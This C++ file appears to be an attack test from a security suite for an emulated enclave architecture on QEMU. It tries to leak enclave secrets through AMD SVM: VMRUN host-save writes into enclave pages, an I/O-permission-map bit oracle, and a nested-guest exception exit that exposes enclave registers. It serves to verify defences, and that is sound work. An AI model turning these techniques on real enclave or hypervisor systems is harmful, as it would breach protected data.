// Attack: SVM (docs/specs/hix-isa.md §16.3). The TCG "max" CPU offers SVM;
// VMRUN saves the host state into the host-save page with physical writes
// that never pass the TLB-fill EPC check. Root sets VM_HSAVE_PA to an EPC
// page and runs VMRUN on an empty VMCB: QEMU writes CR0, CR3, EFER, RIP,
// RSP, RAX... into enclave memory. The I/O permission map is read the same
// way: with the IOPM base on an EPC page, whether a nested guest's IN exits
// tells one bit of the page per port. (The nested guest's exit path is the
// same feature; with SVM gone, all go.)
//
// Paths: cpuid (CPUID 0x80000001 ECX.SVM), efer-svme (WRMSR EFER.SVME),
// vmrun-hsave-epc (VMRUN with the host-save area on an EPC page),
// iopm-oracle (the IOPM on an EPC page: the secret's 512 bits read back
// through which of ports kOraclePort.. exit), l2-exit-leak (below).
//
// l2-exit-leak: the nested guest's exit path skips the enclave-exit hook
// (issue 17 §3). An exception inside an enclave normally aborts it: the
// registers are scrubbed before anything else runs. Run the enclave's
// thread as an L2 guest with every exception intercepted instead, and the
// exception leaves through #VMEXIT straight to the L1 kernel, with the
// enclave's registers in the CPU and its RAX, RSP and RIP in the VMCB. The
// L2 is a user thread of this process (ENCLU needs CPL3): it enters an
// enclave whose code loads the secret from its own EPC page into R8-R15 and
// XMM0 and executes UD2. The module captures the registers right after
// VMRUN returns; a second VMRUN executes EEXIT (the vCPU is still in
// enclave mode). "succeeded" when the secret is in the registers.
#include <cpuid.h>
#include <sys/mman.h>

#include <bit>
#include <tuple>

#include "platform_common.hpp"
#include "runnable_enclave.hpp"

// The L2's code, user text of this process. Enter: RBX = the TCS, RSI and
// RDI for the enclave; EENTER, and UD2 should EENTER fail or return. EEXIT
// code: RBX = where to continue (UD2 again: the exit to L1).
// NOLINTNEXTLINE(hicpp-no-assembler): the L2 guest's code is machine code
asm(".pushsection .text\n"
    ".balign 4096\n"
    ".globl hix_l2_enter_code\n"
    "hix_l2_enter_code:\n\t"
    "lea 1f(%rip), %rcx\n\t"
    "mov $2, %eax\n\t"
    ".byte 0x0f, 0x01, 0xd7\n" /* ENCLU[EENTER] */
    "1:\n\t"
    "ud2\n"
    ".globl hix_l2_eexit_code\n"
    "hix_l2_eexit_code:\n\t"
    "mov $4, %eax\n\t"
    ".byte 0x0f, 0x01, 0xd7\n" /* ENCLU[EEXIT] */
    ".globl hix_l2_after_eexit\n"
    "hix_l2_after_eexit:\n\t"
    "ud2\n"
    ".popsection");

extern "C" const std::uint8_t hix_l2_enter_code[];
extern "C" const std::uint8_t hix_l2_eexit_code[];
extern "C" const std::uint8_t hix_l2_after_eexit[];

namespace {

using namespace hix::platform;

constexpr std::uint32_t kMsrEfer = 0xC0000080;
constexpr std::uint64_t kEferSvme = 1ull << 12;
// struct vmcb: the save area starts at 0x400 (AMD APM vol. 2, appendix B).
constexpr std::size_t kSaveArea = 0x400;
constexpr std::size_t kSaveAreaEnd = 0x600;
// The oracle's ports: away from the legacy devices, whose reads have side
// effects (the ports whose bit is clear are really read). Port p's bit is
// at byte p / 8 of the map, so the secret sits at kOraclePort / 8.
constexpr std::uint16_t kOraclePort = 0x1000;
constexpr std::size_t kOracleOffset = kOraclePort / 8;

void iopm_oracle(AttackDevice& dev) {
  const std::uint64_t block = dev.block(1);
  const Secret secret = random_secret();
  RawEnclave enclave(dev, {.secs_pa = block, .page_pa = block + HIX_PAGE_SIZE}, secret,
                     kOracleOffset);
  if (enclave.create_status != HIX_OK || enclave.add_status != HIX_OK) {
    report({.property = "svm", .path = "iopm-oracle", .outcome = "refused"}, "ecreate=%u eadd=%u",
           enclave.create_status, enclave.add_status);
    return;
  }
  hix_attack_iopm_oracle req{};
  req.iopm_base = enclave.page;
  req.first_port = kOraclePort;
  req.nports = static_cast<std::uint16_t>(secret.size() * 8);
  if (const int e = dev.call(HIX_ATTACK_IOPM_ORACLE, &req); e != 0) {
    fail("IOPM_ORACLE: %s", strerror(e));
  }
  static_assert(sizeof req.exits == std::tuple_size_v<Secret>);
  std::size_t matching = 0;
  for (std::size_t i = 0; i < secret.size() * 8; ++i) {
    const unsigned bit = 1u << (i % 8);
    if (((req.exits[i / 8] & bit) != 0) == ((secret[i / 8] & bit) != 0)) ++matching;
  }
  const bool recovered = req.vmruns == req.nports && matching == secret.size() * 8;
  std::size_t exits = 0;
  for (const std::uint8_t b : req.exits) exits += static_cast<std::size_t>(std::popcount(b));
  const std::uint32_t destroyed = enclave.destroy();
  report({.property = "svm", .path = "iopm-oracle", .outcome = outcome(recovered)},
         "svme=%s vmruns=%u ports=%u io_exits=%zu other_exits=%u last_other=0x%x "
         "bits_matching=%zu epc=0x%llx destroy=%u",
         yes_no(req.svme == 1), req.vmruns, req.nports, exits, req.other_exits, req.last_other,
         matching, static_cast<unsigned long long>(enclave.page), destroyed);
}

constexpr std::uint64_t kSvmExitUd = 0x46;  // SVM_EXIT_EXCP_BASE + #UD
constexpr std::size_t kRegR8 = 8;           // hix_attack_l2_enclave.gprs: RAX..R15

void l2_exit_leak(AttackDevice& dev) {
  const std::uint64_t block = dev.block(2);
  const Secret secret = random_secret();
  RunnableEnclave enclave(dev,
                          {.secs = block,
                           .tcs = block + HIX_PAGE_SIZE,
                           .code = block + 2 * HIX_PAGE_SIZE,
                           .data = block + 3 * HIX_PAGE_SIZE},
                          secret);
  if (!enclave.ok()) {
    report({.property = "svm", .path = "l2-exit-leak", .outcome = "refused"}, "why=%s status=%u",
           enclave.failed, enclave.status);
    return;
  }
  map_enclave(dev, enclave.pa);
  // The L2 cannot take a page fault (it would exit): its stack, its code
  // and the enclave's argument are present before it runs.
  void* mem = mmap(nullptr, 2 * HIX_PAGE_SIZE, PROT_READ | PROT_WRITE,
                   MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
  if (mem == MAP_FAILED) fail("mmap");
  auto* shared = static_cast<volatile spinner_shared*>(mem);
  shared->reserved = 0;
  const volatile std::uint8_t* code = hix_l2_enter_code;
  [[maybe_unused]] const std::uint8_t touched = code[0];
  // reinterpret_cast: the ioctl ABI carries user addresses as integers.
  const auto addr = [](const void* p) { return reinterpret_cast<std::uint64_t>(p); };
  hix_attack_l2_enclave req{};
  req.rip = addr(hix_l2_enter_code);
  req.rsp = addr(mem) + 2 * HIX_PAGE_SIZE;
  req.rbx = RunnableEnclave::kBase + RunnableEnclave::kTcs;
  req.rsi = kEnclaveModeFault;
  req.rdi = addr(mem);
  req.eexit_rip = addr(hix_l2_eexit_code);
  req.eexit_rbx = addr(hix_l2_after_eexit);
  if (const int e = dev.call(HIX_ATTACK_L2_ENCLAVE, &req); e != 0) {
    fail("L2_ENCLAVE: %s", strerror(e));
  }
  std::size_t regs_matching = 0;
  for (std::size_t i = 0; i < secret.size() / 8; ++i) {
    std::uint64_t want = 0;
    std::memcpy(&want, secret.data() + i * 8, sizeof want);
    if (req.gprs[kRegR8 + i] == want) ++regs_matching;
  }
  const bool xmm0 = std::equal(std::begin(req.xmm0), std::end(req.xmm0), secret.begin());
  const bool rip_inside = req.vmcb_rip >= RunnableEnclave::kBase &&
                          req.vmcb_rip < RunnableEnclave::kBase + RunnableEnclave::kSize;
  const bool leaked = regs_matching > 0 || xmm0;
  const char* stopped_by = leaked ? "nothing" : req.svme == 0 ? "svm-absent" : "register-scrub";
  const std::uint32_t destroyed = enclave.destroy();
  report({.property = "svm", .path = "l2-exit-leak", .outcome = outcome(leaked)},
         "svme=%s vmrun_ud=%s exit_code=0x%llx exit_ud=%s vmcb_rip=0x%llx rip_in_enclave=%s "
         "vmcb_rsp=0x%llx vmcb_rax=0x%llx regs_matching=%zu/%zu xmm0=%s eexit_code=0x%llx "
         "stopped_by=%s destroy=%u",
         yes_no(req.svme == 1), yes_no(req.vmrun_ud == 1),
         static_cast<unsigned long long>(req.exit_code), yes_no(req.exit_code == kSvmExitUd),
         static_cast<unsigned long long>(req.vmcb_rip), yes_no(rip_inside),
         static_cast<unsigned long long>(req.vmcb_rsp),
         static_cast<unsigned long long>(req.vmcb_rax), regs_matching, secret.size() / 8,
         xmm0 ? "secret" : "other", static_cast<unsigned long long>(req.eexit_code), stopped_by,
         destroyed);
}

}  // namespace

int main() {
  // The EFER write and its read-back are two ioctls: one CPU answers both.
  pin(0);
  AttackDevice dev;

  unsigned eax = 0, ebx = 0, ecx = 0, edx = 0;
  __cpuid(0x80000001, eax, ebx, ecx, edx);
  const bool svm = (ecx & (1u << 2)) != 0;
  unsigned a_eax = 0, a_ebx = 0, a_ecx = 0, a_edx = 0;
  __cpuid(0x8000000A, a_eax, a_ebx, a_ecx, a_edx);
  report({.property = "svm", .path = "cpuid", .outcome = outcome(svm)},
         "svm=%s ecx=0x%08x leaf_8000000a_eax=0x%08x", yes_no(svm), ecx, a_eax);

  hix_attack_msr efer{kMsrEfer, 0, 0};
  if (dev.call(HIX_ATTACK_RDMSR, &efer) != 0 || efer.err != 0) fail("RDMSR EFER");
  const std::uint64_t old_efer = efer.value;
  hix_attack_msr set{kMsrEfer, 0, old_efer | kEferSvme};
  dev.call(HIX_ATTACK_WRMSR, &set);
  hix_attack_msr back{kMsrEfer, 0, 0};
  dev.call(HIX_ATTACK_RDMSR, &back);
  const bool svme = set.err == 0 && (back.value & kEferSvme) != 0;
  hix_attack_msr restore{kMsrEfer, 0, old_efer};
  dev.call(HIX_ATTACK_WRMSR, &restore);
  report({.property = "svm", .path = "efer-svme", .outcome = outcome(svme)},
         "wrmsr_err=%d efer_after=0x%llx", set.err, static_cast<unsigned long long>(back.value));

  // An EPC page the attacker's kernel places itself (any enclave's page is
  // placed by the untrusted OS).
  const std::uint64_t block = dev.block(1);
  const Secret secret = random_secret();
  RawEnclave enclave(dev, {.secs_pa = block, .page_pa = block + HIX_PAGE_SIZE}, secret);
  if (enclave.create_status != HIX_OK || enclave.add_status != HIX_OK) {
    report({.property = "svm", .path = "vmrun-hsave-epc", .outcome = "refused"},
           "ecreate=%u eadd=%u", enclave.create_status, enclave.add_status);
    return 0;
  }
  Page before{}, after{};
  dev.read_phys(enclave.page, before);
  hix_attack_vmrun v{enclave.page, 0, 0, 0};
  if (const int e = dev.call(HIX_ATTACK_VMRUN, &v); e != 0) fail("VMRUN: %s", strerror(e));
  dev.read_phys(enclave.page, after);
  // Readable only when the memory checks are off (the control): there the
  // save area shows what VMRUN wrote into the enclave's page.
  const bool written = !std::equal(before.begin() + kSaveArea, before.begin() + kSaveAreaEnd,
                                   after.begin() + kSaveArea);
  std::uint64_t saved_efer = 0;
  std::memcpy(&saved_efer, after.data() + 0x4D0, sizeof saved_efer);  // save.efer
  const std::uint32_t destroyed = enclave.destroy();
  report({.property = "svm", .path = "vmrun-hsave-epc", .outcome = outcome(v.vmrun == 1)},
         "svme=%s vmrun=%s epc=0x%llx hsave_written=%s saved_efer=0x%llx destroy=%u",
         yes_no(v.svme == 1), yes_no(v.vmrun == 1), static_cast<unsigned long long>(enclave.page),
         yes_no(written), static_cast<unsigned long long>(saved_efer), destroyed);
  iopm_oracle(dev);
  l2_exit_leak(dev);
  return 0;
}
